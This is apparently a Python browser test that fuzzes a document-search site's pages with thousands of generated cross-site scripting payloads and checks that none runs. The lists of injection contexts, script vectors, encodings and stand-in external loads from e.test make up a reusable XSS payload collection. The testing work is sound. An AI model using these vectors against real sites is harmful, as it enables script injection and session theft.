"""Put payloads that would run as a script wherever a text reaches a page, in a real browser, and see that none does.

`python -m tests.torture.scripts 1000` puts so many into title, body, file name, address and section of a document
each, into the question, the warnings and the suggestions. It needs a Chromium, which ATTEST_BROWSER names.
"""

import argparse
import html
import os
import random
import re
import shutil
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from itertools import product
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

from playwright.sync_api import Browser, BrowserContext, Error, Page, Route, expect, sync_playwright

from index.build import build
from index.documents import Document, document
from index.embedding import HashingEmbedder
from tests.awkward import PAYLOADS
from tests.conftest import FLAGS, serving
from tests.service.test_page_safety import OWN, Watched, answer, carried, loaded, watched, words_of
from tests.service.town import citation

BATCH = 20  # payloads that one page shows
OFFERED = 4  # questions that the chat page offers at once
Spoil = Callable[[BrowserContext], None]
CONTEXTS = [
    *(
        "",
        '">',
        "'>",
        '" ',
        "' ",
        "`",
        "-->",
        "]]>",
        "*/",
        "</title>",
        "</textarea>",
        "</script>",
        "</style>",
        "</mark>",
    ),
    *(
        "</noscript>",
        "</option></select>",
        "</cite></blockquote>",
        "<!--",
        "<![CDATA[",
        "<a href='",
        '<p title="',
        "<<",
    ),
    *(
        "</svg>",
        "<svg>",
        "<math>",
        "<table>",
        "<template>",
        "<select>",
        "<xmp>",
        "\\",
        '\\"',
        "\u2028",
        "\ufeff",
        "&quot;&gt;",
    ),
]
VECTORS = [
    *(
        "<script>ran()</script>",
        "<img src=x onerror=ran()>",
        "<svg onload=ran()>",
        "<svg/onload=ran()>",
        "<b onclick=ran()>",
    ),
    *(
        "<svg><script>ran()</script></svg>",
        "<svg><animate onbegin=ran() attributeName=x dur=1s>",
        "<video src=x onerror=ran()>",
    ),
    *("<svg><a xlink:href=javascript:ran()><text y=9>x", "<svg><use href=data:image/svg+xml,<svg/onload=ran()>>"),
    *("<math href=javascript:ran()>x</math>", "<math><mtext><table><mglyph><style><!--</style><img src onerror=ran()>"),
    *("<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>", "<audio src=x onerror=ran()>"),
    *(
        "<iframe src=javascript:parent.ran()>",
        "<iframe srcdoc='<script>parent.ran()</script>'>",
        "<object data=javascript:ran()>",
    ),
    *(
        "<embed src=data:text/html,<script>ran()</script>>",
        "<details open ontoggle=ran()>",
        "<input autofocus onfocus=ran()>",
    ),
    *(
        "<body onload=ran()>",
        "<marquee onstart=ran()>",
        "<style onload=ran()></style>",
        "<style>*{background:url(//e.test/c)}",
    ),
    *(
        "<link rel=stylesheet href=//e.test/x.css>",
        "<base href=//e.test/>",
        "<meta http-equiv=refresh content='0;url=//e.test'>",
    ),
    *(
        "<img src=//e.test/x.png>",
        "<script src=//e.test/x.js></script>",
        "<a href=javascript:ran()>x</a>",
        "x onfocus=ran() y=",
    ),
    *(
        "onmouseover=ran() autofocus x=",
        "[x](javascript:ran())",
        "![x](//e.test/x.png)",
        "<javascript:ran()>",
        "javascript:ran()",
    ),
    *(
        "[x]: javascript:ran()",
        "[[javascript:ran()|x]]",
        "data:text/html,<script>ran()</script>",
        "{{7*7}}",
        "{% print(ran()) %}",
    ),
    *(
        "{{constructor.constructor('ran()')()}}",
        "${ran()}",
        "#{ran()}",
        "<%= ran() %>",
        "expression(ran())",
        "';ran();//",
    ),
    *(
        '";ran();//',
        "`;ran();//",
        "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
        "<x contenteditable onblur=ran()>",
    ),
    *(
        "<p style=animation-name:x onanimationstart=ran()>",
        "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=ran()>",
    ),
    *(
        "<img src=x onerror=import('//e.test/x.js')>",
        "<div id=conversation name=log>",
        "<form id=ask><input name=q>",
        *PAYLOADS,
    ),
]


def _entities(words: str) -> str:
    return "".join(f"&#{ord(sign)};" for sign in words)


def _wide(words: str) -> str:
    """In the letters of East Asian typography, which some programs fold into plain ones."""
    return "".join(chr(ord(sign) + 0xFEE0) if "!" <= sign <= "~" else sign for sign in words)


ENCODINGS: list[Callable[[str], str]] = [
    lambda words: words,
    lambda words: words,
    str.upper,
    str.swapcase,
    html.escape,
    lambda words: html.escape(html.escape(words)),
    _entities,
    quote,
    _wide,
    lambda words: words.replace("<", "\\u003c"),
    lambda words: words.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda words: words.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda words: words.replace(" ", "\t"),
    lambda words: words.replace(" ", "/"),
    lambda words: words.replace("<", "<\u200b"),
    lambda words: words.replace("ran", "r\u00adan"),
    lambda words: words.replace("<", "\u202e<"),
    lambda words: words.replace("<", "<\x01"),
    lambda words: "\ufeff" + words,
]


def payloads(count: int, seed: int) -> list[str]:
    """So many different ones: each vector in some contexts and encodings."""
    chance = random.Random(seed)
    every = [encoding(context + vector) for context, vector, encoding in product(CONTEXTS, VECTORS, ENCODINGS)]
    fitting = sorted({each for each in every if len(each.encode()) <= 600 and each == each.strip()} - set(PAYLOADS))
    return [*PAYLOADS[:count], *chance.sample(fitting, max(0, count - len(PAYLOADS)))]


@dataclass(slots=True)
class Tally:
    """How many payloads were shown on how many pages, and what went wrong."""

    payloads: int = 0
    pages: int = 0
    wrong: list[str] = field(default_factory=list)


def torture(
    browser: Browser, given: list[str], spoil: Spoil = lambda _: None, with_policy: bool = True, most_wrong: int = 20
) -> Tally:
    """Show each payload on every page. `spoil` may change what a page is made of."""
    tally = Tally(len(given))
    with tempfile.TemporaryDirectory() as name:
        sources = _written(Path(name) / "documents", given)
        build(Path(name) / "documents", Path(name) / "index", HashingEmbedder())
        with serving(Path(name) / "index", ATTEST_EMBEDDER="hashing", ATTEST_READER="sentence") as address:
            for first in range(0, len(given), BATCH):
                batch = list(zip(given, sources, strict=True))[first : first + BATCH]
                with watched(browser, address, bypass_csp=not with_policy) as visit:
                    visit.page.set_default_timeout(20_000)
                    spoil(visit.page.context)
                    try:
                        for scene in (_chat, _views, _answers, _documents, _suggestions):
                            tally.pages += scene(visit, address, batch)
                            visit.page.unroute_all()
                    except (AssertionError, Error) as error:
                        visit.wrong.append(f"{type(error).__name__}: {error}"[:500])
                        _settle(visit)
                    tally.wrong += [f"{wrong}, among {first} to {first + BATCH}" for wrong in visit.wrong]
                if len(tally.wrong) >= most_wrong:
                    break
    return tally


def _written(folder: Path, given: list[str]) -> list[Document]:
    """A document with each payload wherever it can carry one, its file name too, and a file that cannot be read."""
    found = []
    for number, payload in enumerate(given):
        name = "/".join(part[:60] for part in re.split("/+", payload.replace("\0", "")))
        uri = f"{number} {name}_.md"  # a name of the suffix alone would be hidden
        path = folder / uri
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(loaded(payload).encode())
        path.with_suffix(".png").write_bytes(b"unreadable")
        found.append(document(uri, path.read_bytes())[0])
    return found


Batch = list[tuple[str, Document]]


def _chat(visit: Watched, address: str, batch: Batch) -> int:
    """The turn of each, its card and its source, and turns that abstain."""
    page = visit.page
    page.goto(address)
    for payload, source in batch:
        made = carried(source, payload)
        turn = answer(page, f"Q {payload}", [made], warnings=[payload], differing=[made])
        citation(turn, 1).last.click()
        _same(visit, payload, words_of(page.locator("#pane mark")))
        page.keyboard.press("Escape")
        expect(page.get_by_role("tooltip")).to_be_visible()
        _same(visit, payload, words_of(page.locator("#card mark")))
        page.keyboard.press("Escape")
    answer(page, "related", [], status="abstained", reason="low_confidence", related=[carried(s, p) for p, s in batch])
    _settle(visit)
    return 1


def _views(visit: Watched, address: str, batch: Batch) -> int:
    """The page of each document, at the payload, and of one that is not there."""
    for payload, source in batch:
        made = carried(source, payload)
        query = urlencode({"start": made["start"], "end": made["end"], "sha256": source.ref.sha256})
        visit.page.goto(f"{address}/documents/{source.id}/view?{query}#quote")
        _same(visit, payload, words_of(visit.page.locator("mark")))
        _settle(visit)
    return len(batch)


def _answers(visit: Watched, address: str, batch: Batch) -> int:
    """The page without JavaScript that answers the question."""
    for payload, source in batch:
        asked = {"q": f"What was opened in 1901 by {payload}?"[:900], "in": source.id}
        visit.page.goto(f"{address}/answer?{urlencode(asked)}")
        _same(visit, asked["q"], words_of(visit.page.locator("h1")))
        _settle(visit)
    return len(batch)


def _documents(visit: Watched, address: str, batch: Batch) -> int:
    """The list of all documents, and of the files that could not be read."""
    visit.page.goto(address)
    visit.page.get_by_role("button", name="Documents").click()
    expect(visit.page.locator("#pane li").first).to_be_visible()
    _settle(visit)
    return 1


def _suggestions(visit: Watched, address: str, batch: Batch) -> int:
    """The questions that are offered."""
    visit.page.goto(address)
    visit.page.evaluate("sessionStorage.clear()")  # they are offered where nothing was asked
    for first in range(0, len(batch), OFFERED):
        given = [payload for payload, _ in batch][first : first + OFFERED]
        visit.page.unroute_all()
        visit.page.route("**/suggestions", _offering(given))
        visit.page.goto(f"{address}/?first={first}")
        expect(visit.page.locator("#suggestions li")).to_have_count(len(given))
        _settle(visit)
    return -(-len(batch) // OFFERED)


def _offering(given: list[str]) -> Callable[[Route], None]:
    return lambda route: route.fulfill(json={"questions": given})


def _same(visit: Watched, expected: str, shown: str) -> None:
    if shown != expected:
        visit.wrong.append(f"{expected!r} is shown as {shown!r}")


def _settle(visit: Watched) -> None:
    """Let what was put on a page act, and note elements that are not the page's own."""
    page: Page = visit.page
    page.evaluate("() => new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
    for element in page.evaluate(OWN):
        visit.wrong.append(f"markup of a document: {element[:200]}")


def unescaped(context: BrowserContext) -> None:
    """As if the templates did not escape."""

    def handle(route: Any) -> None:
        response = route.fetch()
        route.fulfill(response=response, body=html.unescape(response.text()))

    context.route(re.compile("/view|/answer"), handle)


def written_as_markup(context: BrowserContext) -> None:
    """As if the page wrote texts as markup."""

    def handle(route: Any) -> None:
        response = route.fetch()
        body = response.text().replace(
            "const made = Object.assign(document.createElement(name), others);",
            "const made = Object.assign(document.createElement(name), others);"
            " if (others.textContent) made.innerHTML = others.textContent;",
        )
        route.fulfill(response=response, body=body)

    context.route("**/static/page.js", handle)


def chromium() -> Iterator[Browser]:
    path = os.environ.get("ATTEST_BROWSER") or shutil.which("chromium")
    if not path:
        raise SystemExit("no Chromium: name one in ATTEST_BROWSER")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=FLAGS)
        yield browser
        browser.close()


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m tests.torture.scripts", description="Try to run in a browser.")
    parser.add_argument("count", type=int)
    parser.add_argument("--seed", type=int, default=0)
    given = parser.parse_args()
    began = time.monotonic()
    for browser in chromium():
        tally = torture(browser, payloads(given.count, given.seed))
    print(
        f"{tally.payloads:,} payloads on {tally.pages:,} pages in {time.monotonic() - began:,.0f} s, "
        f"seed {given.seed}: {len(tally.wrong)} failures"
    )
    for wrong in tally.wrong:
        print(wrong)
    sys.exit(bool(tally.wrong))


if __name__ == "__main__":
    main()
